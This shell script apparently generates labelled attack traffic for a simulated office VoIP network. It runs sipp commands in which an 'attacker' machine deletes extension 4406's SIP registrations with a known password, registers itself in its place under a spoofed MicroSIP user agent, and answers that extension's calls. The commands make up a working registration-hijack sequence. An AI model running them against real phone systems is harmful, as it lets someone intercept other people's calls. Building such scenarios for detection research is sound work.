# A computer inside removes all registrations of 4406 with the right password (Contact: *), registers
# itself twelve seconds later and answers two calls.
relocate example.com 5060 192.168.133 198.18.23
EXTENSIONS=(4401 4402 4403 4404 4405 4406)
EXISTING='^44[0-1][0-9]$'
WEAK=none
REGISTER_SECONDS=130
open_office
add_attacker thief 192.168.133.88
start_office_capture
keep_alive 17
office_day 318 115 16-82
for part in unregister-all register callee; do
    sed 's/\(User-Agent\|Server\): .*/\1: MicroSIP\/3.21.3/' "$parts/sipp/$part.xml" >"$scratch/$part.xml"
done
story="A computer inside removes the registrations of 4406 with the right password, registers, and answers its calls."
at 14 attack A1-1 hijack:registration_hijack thief 5060 "$story" "$(version_of sipp)" \
    env TERM=dumb sipp -sf "$scratch/unregister-all.xml" -nostdin -m 1 -l 1 \
    -i 192.168.133.88 -p 5060 -s 4406 -au 4406 -ap secret4406 192.168.133.1:5060
at 26 attack A1-2 hijack:registration_hijack thief 5060 "$story" "$(version_of sipp)" \
    env TERM=dumb sipp -sf "$scratch/register.xml" -nostdin -m 1 -l 1 -r 1 -key parameters "" \
    -i 192.168.133.88 -p 5060 -s 4406 -au 4406 -ap secret4406 192.168.133.1:5060
at 30 attack A1-3 hijack:registration_hijack thief 5060 "$story" "$(version_of sipp)" \
    env TERM=dumb sipp -sf "$scratch/callee.xml" -nostdin -m 2 -l 2 -key parameters "" \
    -i 192.168.133.88 -mi 192.168.133.88 -p 5060 -s 4406
for second in 36 58; do
    at "$second" tell 4402 dial "sip:4406@$DOMAIN"
    at "$((second + 15))" tell 4402 hangup
done
play
wait_for A1-1 A1-2 A1-3
close_office
